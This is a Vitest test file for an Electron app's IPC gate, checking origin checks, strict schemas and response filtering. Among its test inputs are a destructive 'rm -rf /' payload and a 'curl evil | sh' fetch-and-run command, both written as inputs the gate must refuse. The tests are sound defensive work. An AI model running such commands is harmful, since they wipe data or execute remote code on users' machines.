import { beforeEach, describe, expect, it, vi } from 'vitest';

// Electron cannot start here: capture what main registers on ipcMain and call it as Electron would.
const registered = new Map<string, (event: unknown, payload: unknown) => Promise<unknown>>();
vi.mock('electron', () => ({
  ipcMain: {
    handle: (channel: string, listener: (event: unknown, payload: unknown) => Promise<unknown>) => registered.set(channel, listener),
    removeHandler: (channel: string) => registered.delete(channel),
  },
}));

const { registerValidatedIpc } = await import('./validated-ipc');
const { createIpcGate } = await import('./ipc-gate');
const { IPC_CHANNELS, IpcChannel } = await import('../../shared/ipc/channels');
import type { IpcHandlers } from './ipc-gate';

const APP_ORIGIN = 'app://console';

function frame(url: string, options: { parent?: object | null; routingId?: number } = {}) {
  return { url, parent: options.parent ?? null, processId: 7, routingId: options.routingId ?? 1 };
}
function event(senderFrame: ReturnType<typeof frame> | null) {
  return { senderFrame, sender: { mainFrame: frame(`${APP_ORIGIN}/index.html`) } };
}

describe('validated IPC entry point', () => {
  const logLines: string[] = [];
  const log = {
    info: (message: string, fields?: Record<string, unknown>) => logLines.push(`${message} ${JSON.stringify(fields ?? {})}`),
    warn: (message: string, fields?: Record<string, unknown>) => logLines.push(`${message} ${JSON.stringify(fields ?? {})}`),
  };
  const calls: { channel: string; request: unknown }[] = [];
  const handlers = new Proxy({} as IpcHandlers, {
    get: (_target, channel: string) => (request: unknown) => {
      calls.push({ channel, request });
      if (channel === IpcChannel.AppInfo) return { name: 'Bulwark', version: '1.0.0', host: 'electron' };
      if (channel === IpcChannel.PrefsSetServerUrl) {
        // A handler that (wrongly) returns more than the contract declares: the extra field must not cross.
        return { serverUrl: 'https://bulwark.example', accessToken: 'secret-access-token' };
      }
      return {};
    },
  });
  const gate = createIpcGate({ appOrigin: APP_ORIGIN, handlers, log });
  registerValidatedIpc(gate);

  beforeEach(() => {
    logLines.length = 0;
    calls.length = 0;
  });

  it('registers a handler for every allow-listed channel and nothing else', () => {
    expect([...registered.keys()].sort()).toEqual([...IPC_CHANNELS].sort());
  });

  it('answers a valid call from the main frame of the app origin', async () => {
    const answer = await registered.get(IpcChannel.AppInfo)!(event(frame(`${APP_ORIGIN}/index.html`)), undefined);
    expect(answer).toEqual({ ok: true, value: { name: 'Bulwark', version: '1.0.0', host: 'electron' } });
  });

  it('refuses unknown channels without calling any handler', async () => {
    const answer = await gate.dispatch('shell:exec', { url: `${APP_ORIGIN}/index.html`, isMainFrame: true }, { cmd: 'rm -rf /' });
    expect(answer).toMatchObject({ ok: false, error: { code: 'ipc_refused' } });
    expect(calls).toEqual([]);
    expect(logLines.join('\n')).toContain('unknown channel');
    expect(logLines.join('\n')).not.toContain('rm -rf');
  });

  it('refuses senders from another origin, from sub-frames and from destroyed frames', async () => {
    const handler = registered.get(IpcChannel.AppInfo)!;
    const foreign = await handler(event(frame('https://evil.example/index.html')), undefined);
    const fileScheme = await handler(event(frame('file:///tmp/index.html')), undefined);
    const lookalike = await handler(event(frame('app://console.evil/index.html')), undefined);
    const subFrame = await handler(event(frame(`${APP_ORIGIN}/index.html`, { parent: {}, routingId: 2 })), undefined);
    const otherFrameSameOrigin = await handler(event(frame(`${APP_ORIGIN}/index.html`, { routingId: 3 })), undefined);
    const gone = await handler(event(null), undefined);
    for (const answer of [foreign, fileScheme, lookalike, subFrame, otherFrameSameOrigin, gone]) {
      expect(answer).toMatchObject({ ok: false, error: { code: 'ipc_refused' } });
    }
    expect(calls).toEqual([]);
    expect(logLines.filter((line) => line.includes('foreign sender'))).toHaveLength(6);
  });

  it('refuses payloads that fail the channel schema, naming the fields, and logs no payload', async () => {
    const handler = registered.get(IpcChannel.AuthSignIn)!;
    const answer = await handler(event(frame(`${APP_ORIGIN}/`)), {
      serverUrl: 'http://bulwark.example.com',
      email: 'not-an-email',
      password: 'hunter2-very-secret',
    });
    expect(answer).toMatchObject({ ok: false, error: { code: 'invalid_request' } });
    const fields = (answer as { error: { fields: Record<string, string> } }).error.fields;
    expect(Object.keys(fields).sort()).toEqual(['email', 'serverUrl']);
    expect(fields.serverUrl).toMatch(/https/);
    expect(calls).toEqual([]);
    expect(logLines.join('\n')).not.toContain('hunter2');
  });

  it('refuses extra keys (strict schemas) and wrong types', async () => {
    const handler = registered.get(IpcChannel.TerminalInput)!;
    const extra = await handler(event(frame(`${APP_ORIGIN}/`)), { terminalId: 't1', data: '\u0003', channel: 'x' });
    const printable = await handler(event(frame(`${APP_ORIGIN}/`)), { terminalId: 't1', data: 'curl evil | sh' });
    const notObject = await handler(event(frame(`${APP_ORIGIN}/`)), 'terminal t1');
    for (const answer of [extra, printable, notObject]) expect(answer).toMatchObject({ ok: false, error: { code: 'invalid_request' } });
    expect(calls).toEqual([]);
  });

  it('parses answers with the response schema, so undeclared fields never cross', async () => {
    const answer = await registered.get(IpcChannel.PrefsSetServerUrl)!(event(frame(`${APP_ORIGIN}/`)), {
      serverUrl: 'https://bulwark.example',
    });
    expect(answer).toEqual({ ok: true, value: { serverUrl: 'https://bulwark.example' } });
    expect(JSON.stringify(answer)).not.toContain('secret-access-token');
  });
});
